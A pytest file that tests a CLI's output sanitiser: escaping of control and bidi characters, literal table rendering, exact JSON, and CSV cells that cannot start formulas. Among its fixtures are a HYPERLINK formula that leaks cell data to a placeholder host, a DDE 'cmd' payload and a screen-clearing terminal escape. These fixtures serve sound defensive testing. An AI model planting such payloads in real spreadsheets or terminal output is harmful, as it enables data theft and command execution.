"""The command's one way of making text safe to show: printable(), and JSON and CSV that stay exact."""

from __future__ import annotations

import csv
import io
import json
import unicodedata

import pytest
from rich.console import Console

from ledger.cli.render import LiteralTable, print_csv, print_json, printable

STEERING = [
    *map(chr, range(0x20)),
    *map(chr, range(0x7F, 0xA0)),
    "\u061c",
    "\u200e",
    "\u200f",
    "\u2028",
    "\u2029",
    *map(chr, range(0x202A, 0x202F)),
    *map(chr, range(0x2066, 0x206A)),
    "\ud800",
    "\udcff",
]


@pytest.mark.parametrize("character", STEERING, ids=[f"U+{ord(c):04X}" for c in STEERING])
def test_every_steering_character_becomes_its_escape(character: str) -> None:
    shown = printable(f"a{character}b")
    code = ord(character)
    assert shown == (f"a\\x{code:02x}b" if code < 0x100 else f"a\\u{code:04x}b")


def test_ordinary_text_is_left_alone() -> None:
    text = "[red]abc [/bold] é 日本 😀 e\u0301 \\x1b 100%"
    assert printable(text) == text
    assert all(unicodedata.category(c) not in ("Cc", "Cs") for c in printable("".join(STEERING)))


def test_a_table_shows_markup_and_control_characters_literally() -> None:
    table = LiteralTable(title="Message [/bold]\x1b[2J")
    table.add_column("value")
    table.add_row("[red]abc\u202e")
    console = Console(width=80, force_terminal=False, no_color=True, record=True, file=io.StringIO())
    console.print(table)
    shown = console.export_text()
    assert "[/bold]\\x1b[2J" in shown  # the title (wrapped to the table's width)
    assert "[red]abc\\u202e" in shown


def test_json_escapes_what_json_dumps_leaves_raw_and_parses_back_exactly(capsys: pytest.CaptureFixture[str]) -> None:
    # A high surrogate right before a low one would come back as the pair's one character:
    # JSON's escapes cannot tell them apart.  (Stored text never holds lone surrogates.)
    value = {"raw": "-".join(STEERING) + "é😀"}
    print_json(value)
    out = capsys.readouterr().out
    assert not set(out) & (set(STEERING) - {"\n"})
    assert json.loads(out) == value


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"see")', '\'=HYPERLINK("http://x.example/?"&A1,"see")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("-inf", "'-inf"),
        ("\t=1", "\\x09=1"),
        ("-1", "-1"),
        ("+44.5e3", "+44.5e3"),
        ("rate limit = 5", "rate limit = 5"),
    ],
)
def test_csv_cells_never_start_a_spreadsheet_formula(capsys: pytest.CaptureFixture[str], text: str, cell: str) -> None:
    print_csv([{"error": text}], ["error"])
    assert list(csv.reader(io.StringIO(capsys.readouterr().out))) == [["error"], [cell]]


def test_csv_has_its_header_without_rows_and_no_raw_control_characters(capsys: pytest.CaptureFixture[str]) -> None:
    print_csv([], ["key", "count"])
    assert capsys.readouterr().out == "key,count\n"
    print_csv([{"key": "a\nb\x1b", "count": 2, "ids": ["x\u202e", "y"]}], ["key", "count", "ids"])
    out = capsys.readouterr().out
    assert list(csv.reader(io.StringIO(out))) == [["key", "count", "ids"], ["a\\x0ab\\x1b", "2", "x\\u202e;y"]]
